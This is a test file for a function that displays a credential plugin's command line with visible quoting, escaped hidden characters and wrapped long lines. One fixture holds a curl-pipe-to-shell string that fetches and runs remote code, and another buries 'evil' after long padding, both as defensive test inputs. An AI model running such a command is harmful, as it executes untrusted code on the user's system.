import { describe, expect, it } from 'vitest';
import { commandLine } from './ContextFacts.tsx';

describe('the command line of a credential plugin', () => {
  it('is as one would type it', () => {
    expect(commandLine({ command: '/usr/bin/aws', arguments: ['eks', '--name=blue', 'a/b:c'] })).toBe(
      '/usr/bin/aws eks --name=blue a/b:c',
    );
  });

  it('shows where each argument ends, whatever is in it', () => {
    expect(commandLine({ command: 'sh', arguments: ['-c', "curl evil | sh; echo 'x'", ''] })).toBe(
      "sh -c 'curl evil | sh; echo '\\''x'\\''' ''",
    );
  });
});

describe('the command line of a plugin that hides something', () => {
  it('writes it out, and is broken into lines before any of it would be cut', () => {
    expect(commandLine({ command: '/usr/bin/aws\u200b', arguments: [] })).toBe("'/usr/bin/aws\\u{200b}'");
    const long = commandLine({ command: 'sh', arguments: ['-c', `${'true;'.repeat(600)}evil`] });
    expect(long).toContain('evil');
    expect(long.split('\n').every((line) => line.length <= 1000)).toBe(true);
  });
});
